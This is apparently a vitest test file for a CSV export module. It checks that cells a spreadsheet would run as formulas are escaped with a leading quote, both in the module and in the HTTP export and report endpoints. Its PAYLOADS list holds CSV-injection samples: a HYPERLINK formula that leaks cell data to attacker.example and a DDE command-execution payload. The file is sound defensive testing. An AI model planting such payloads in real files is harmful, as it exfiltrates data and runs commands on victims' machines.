import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { grant, makeMember, makeScene, makeType } from "../../test/factories.js";
import { createHttpTestApp, type HttpTestApp } from "../../test/http.js";
import { neutraliseFormula, restoreFormula, spreadsheetCsv } from "./spreadsheet-csv.js";

/** What LibreOffice and Excel run as a formula when a cell starts with it (OWASP, CSV injection). */
const FORMULA = /^[=+\-@\t\r]/;

const PAYLOADS = [
  '=HYPERLINK("https://attacker.example/?leak="&A1,"Open")',
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
];

describe("CSV cells a spreadsheet would run as a formula", () => {
  it("get a leading single quote and are quoted; other cells are as they were", () => {
    const text = spreadsheetCsv([["=1+1", "Mari", "-", "a=b", "@x"]]);
    expect(text).toBe(`"'=1+1",Mari,"'-",a=b,"'@x"\n`);
    for (const payload of PAYLOADS) expect(FORMULA.test(neutraliseFormula(payload))).toBe(false);
  });

  it("come back as they were when the export is imported", () => {
    fc.assert(
      fc.property(fc.string(), (cell) => {
        fc.pre(!cell.startsWith("'"));
        expect(restoreFormula(neutraliseFormula(cell))).toBe(cell);
      }),
    );
  });
});

describe("the export and the report, read as a spreadsheet reads them", () => {
  let t: HttpTestApp;
  let scene: Awaited<ReturnType<typeof makeScene>>;

  beforeAll(async () => {
    t = await createHttpTestApp("pglite");
    scene = await makeScene(t.ctx);
    for (const [index, payload] of PAYLOADS.entries()) {
      const member = await makeMember(t.ctx, scene.organization.id, "peer_mentor", { displayName: payload });
      const type = await makeType(t.ctx, scene.organization.id, { name: `${payload} ${index}` });
      await grant(t.ctx, { ...scene, mentor: member, type }, { notes: payload });
    }
  });
  afterAll(async () => t?.close());

  async function cells(url: string): Promise<string[]> {
    const answer = await t.app.inject({ url, headers: await t.bearer(scene.admin.userId) });
    expect(answer.statusCode).toBe(200);
    expect(answer.headers["content-type"]).toMatch(/^text\/csv/);
    const rows = parse(answer.body, { bom: true, relax_column_count: true }) as string[][];
    return rows.flat();
  }

  it("the certifications export holds no cell that starts a formula, and keeps the text after the quote", async () => {
    const all = await cells(`/v1/organizations/${scene.organization.id}/certifications/export`);
    expect(all.filter((cell) => FORMULA.test(cell))).toEqual([]);
    for (const payload of PAYLOADS) expect(all).toContain(`'${payload}`);
  });

  it("the funder report's CSV holds no cell that starts a formula", async () => {
    const year = t.clock.now().getUTCFullYear();
    const all = await cells(
      `/v1/organizations/${scene.organization.id}/reports/certified-mentors?year=${year}&format=csv`,
    );
    expect(all.filter((cell) => FORMULA.test(cell))).toEqual([]);
    expect(all.filter((cell) => cell.startsWith("'=HYPERLINK"))).toHaveLength(1);
  });
});
